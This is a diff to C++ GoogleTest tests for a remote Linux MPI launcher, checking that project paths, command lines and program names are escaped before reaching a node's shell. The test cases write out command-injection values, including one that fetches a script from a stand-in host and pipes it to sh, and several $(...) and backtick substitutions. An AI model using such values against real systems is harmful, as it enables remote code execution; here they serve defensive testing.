@@ -2,7 +2,10 @@
 // their traces, the mpdtrace check, console redirection, and the checks of what goes into a command.
 #include <gtest/gtest.h>
 
+#include <filesystem>
+
 #include "CompanionFakes.h"
+#include "RemoteCommands.h"
 #include "launch/LaunchFixture.h"
 #include "launch/StorageNode.h"
 
@@ -46,6 +49,36 @@ class RemoteLinuxRun : public zep::testing::LaunchTest {
         return commands;
     }
 
+    // A run over two machines whose project folder, home folder (the installation share), command line
+    // and program name are the given ones.
+    void SetUpNamedRun(const std::string& projectName, const std::string& home,
+                       const std::string& commandLine, const std::string& exe) {
+        const std::string project = run_.temp().path() + "/" + projectName;
+        std::filesystem::create_directories(project + "/Analysis/Run01");
+        zep::testing::WriteFile(
+            project + "/Analysis/Run01/Part01.cmx",
+            TaskBlock(11, 2) +
+                MachineBlock({"alpha 1 /opt/T/", "beta 1 /opt/T/"}, {"1", "1"},
+                             "ValueSharedTarvik3DName=" + home + "\nValueParallelWorkingFolder=D:\\Work\n"));
+        handler_.reset(new CommandHandler(0));
+        handler_->SetCommandArguments(0, commandLine.c_str(), install_.c_str(), project.c_str(), "Part",
+                                      exe.c_str(), "01");
+        ASSERT_EQ(handler_->ReadCMX4TaskManager(), 2);
+        ASSERT_EQ(handler_->WriteParallelFile(), 2);
+        zep::fakes::Reset();
+    }
+
+    // The commands sent to the storage node, the background launch last.
+    static std::vector<std::string> RemoteCommands() {
+        std::vector<std::string> commands;
+        for (const auto& call : zep::fakes::Calls()) {
+            if (call.name == "CZEPSSH2Tool::SSH2_RemoteCommandStdoutStderr" ||
+                call.name == "CZEPSSH2Tool::SSH2_RemoteCommandOutputToFile")
+                commands.push_back(call.args[3]);
+        }
+        return commands;
+    }
+
     zep::testing::FixedClock clock_{Morning()};
 };
 
@@ -84,6 +117,8 @@ TEST_F(RemoteLinuxRun, TwoHostsBootTheRingWriteTheMachineFileAndLaunch) {
     EXPECT_EQ(launch[0].args[7], "1");
     EXPECT_EQ(handler_->m_sMPIName, "/opt/Tarvik3D//IntelMPI/mpiexec.py");
     EXPECT_EQ(std::string(handler_->m_szUserName), "runner");
+    // The password is wiped when the route ends.
+    EXPECT_EQ(std::string(handler_->m_szPassword), "");
 }
 
 TEST_F(RemoteLinuxRun, TracesEveryStepAtLevelTwo) {
@@ -211,6 +246,55 @@ TEST_F(RemoteLinuxRun, ValuesInQuotedPartsAreEscapedAndBadHostNamesStopTheRemote
     }
 }
 
+// Every way a value of the project reaches the node's shell: each command must read as the designed
+// words with the value as plain text in them, and nothing may run.
+TEST_F(RemoteLinuxRun, NoValueOfTheProjectReachesTheRemoteShellAsCode) {
+    const std::string line = "\"C:\\App\\*D:\\Work\\P*\"";
+    const struct {
+        const char* path;
+        std::string project, home, commandLine, exe, configuration;
+    } cases[] = {
+        {"home folder", "P", "/opt/T;curl -s http://x.example/p|sh;#", line, "solver.exe", ""},
+        {"home folder", "P", "/opt/a b$(touch Y)'q'`id`\\", line, "solver.exe", ""},
+        {"project folder", "a`touch X`", "/opt/T", line, "solver.exe", ""},
+        {"project folder", "a$(touch Y)", "/opt/T", line, "solver.exe", ""},
+        {"project folder", "R&D", "/opt/T", line, "solver.exe", ""},
+        {"project folder", "Tom's", "/opt/T", line, "solver.exe", ""},
+        {"project folder", "x\"y;z $HOME", "/opt/T", line, "solver.exe", ""},
+        {"command line", "P", "/opt/T", line + " $HOME \"a b\" 'q' R&D x;y \\\"in\\\" c:\\d\\ `id`",
+         "solver.exe", ""},
+        {"program name", "P", "/opt/T", line, "sol ver$(touch Z).exe", ""},
+        {"launcher configuration", "P", "/opt/T", line, "solver.exe", "-wdir \"/r/a$(touch W) `id`\" "},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(std::string(c.path) + ": " + c.project + " | " + c.home + " | " + c.commandLine + " | " +
+                     c.exe);
+        zep::fakes::Reset();
+        zep::fakes::ScriptConfigurationString(std::wstring(c.configuration.begin(), c.configuration.end()));
+        SetUpNamedRun(c.project, c.home, c.commandLine, c.exe);
+        StdoutCapture out;
+        Execute();
+        EXPECT_EQ(out.Stop(), "Check mpd of [alpha] ... Failed!\nCheck mpd of [beta] ... Failed!\n");
+        const auto commands = RemoteCommands();
+        EXPECT_EQ(commands.size(), 11u);
+        EXPECT_EQ(zep::testing::CheckRemoteCommands(*handler_, commands), "");
+    }
+
+    // A home folder that is no folder on the node stops the route before any remote step.
+    for (const std::string home : {"opt/T", "C:\\App\\", ""}) {
+        zep::fakes::Reset();
+        SetUpNamedRun("P", home, line, "solver.exe");
+        handler_->m_sLinZep3DHomeDir = home;
+        StdoutCapture out;
+        Execute();
+        EXPECT_EQ(out.Stop(), "BootMPDRing() failed: [" + home +
+                                  "] is not an absolute POSIX path; the MPD ring is not booted.\n"
+                                  "SpawnLinuxMPIProcess() failed: [" +
+                                  home + "] is not an absolute POSIX path; the run is not started.\n");
+        EXPECT_TRUE(Commands().empty());
+    }
+}
+
 TEST_F(RemoteLinuxRun, LongHostListsAreSentWhole) {
     std::vector<std::string> entries;
     std::vector<std::string> weights;
@@ -239,6 +323,14 @@ TEST_F(RemoteLinuxRun, LongHostListsAreSentWhole) {
 }
 
 TEST(StorageNode, HostNamesAndEscapes) {
+    EXPECT_EQ(zep::launch::EscapeShellWord("/opt/Tarvik3D/IntelMPI/mpdboot.py"),
+              "/opt/Tarvik3D/IntelMPI/mpdboot.py");
+    EXPECT_EQ(zep::launch::EscapeShellWord("/a b;c\n"), "/a\\ b\\;c'\n'");
+    // Plain launcher arguments keep their bytes, blanks and quotes included.
+    const std::string plain =
+        "-wdir /r -machinefile \"/Z/P/machines.txt\" -n 2  \"/opt/T/s.exe\" \"/opt/T*/Z/P*\" x";
+    EXPECT_EQ(zep::launch::ShellLauncherArguments(plain), plain);
+    EXPECT_EQ(zep::launch::ShellLauncherArguments("\"a\"\"b\" \\$x c\\"), "\"a\\\"b\" \"\\$x\" \"c\\\\\"");
     EXPECT_TRUE(zep::launch::IsValidHostName("node-1.cluster_a"));
     EXPECT_FALSE(zep::launch::IsValidHostName(""));
     EXPECT_FALSE(zep::launch::IsValidHostName("a b"));
